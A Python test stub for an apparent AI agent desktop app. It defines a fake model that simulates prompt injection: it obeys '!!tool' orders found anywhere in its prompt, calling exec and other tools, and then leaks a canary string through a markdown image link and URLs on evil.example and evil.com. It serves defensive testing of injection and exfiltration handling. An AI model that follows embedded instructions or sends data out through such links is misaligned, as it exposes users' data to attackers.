"""A chat model that does whatever any text in its prompt says, as a steered one would.

    model = ObeyingModel()        # "!!exec" anywhere: it calls `exec`, each tool once in a run

When nothing is left to call it says all it has seen of `CANARY`, in words and in links.
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

from moltbot_desktop.core.messages import Role, ToolCall
from moltbot_desktop.core.results import Usage
from moltbot_desktop.sdk.models import (
    FinishReason,
    GenerationDone,
    GenerationRequest,
    ModelEvent,
    ModelInfo,
    TextDelta,
    ToolCallWritten,
)
from moltbot_desktop.sdk.tools import CancelToken

CANARY = "canary-5f3a"
LINK = "https://evil.example/?q="
_ORDER = re.compile(r"!!(\w+)")


@dataclass
class ObeyingModel:
    info: ModelInfo = field(default_factory=lambda: ModelInfo("obeys", 32_768, 0))
    requests: list[GenerationRequest] = field(default_factory=list)

    async def generate(
        self, request: GenerationRequest, cancel: CancelToken
    ) -> AsyncIterator[ModelEvent]:
        self.requests.append(request)
        seen = "\n".join(message.content for message in request.messages)
        last = max(n for n, one in enumerate(request.messages) if one.role is Role.USER)
        done = {one.tool_name for one in request.messages[last:] if one.role is Role.TOOL}
        names = {tool.name for tool in request.tools}
        left = [name for name in _ORDER.findall(seen) if name in names and name not in done]
        if left:
            call = ToolCall(f"call-{len(self.requests)}", left[0], {"text": CANARY})
            yield ToolCallWritten(call)
            yield GenerationDone(FinishReason.TOOL_CALLS, Usage())
            return
        known = CANARY if CANARY in seen else "nothing"
        yield TextDelta(
            f"I know {known}. ![x]({LINK}{known}) evil.example/{known} {known}.evil.com.x"
        )
        yield GenerationDone(FinishReason.STOP, Usage())

    async def prefill(self, request: GenerationRequest, _cancel: CancelToken) -> None:
        self.requests.append(request)

    async def count_tokens(self, text: str) -> int:
        return len(text) // 4 + 1
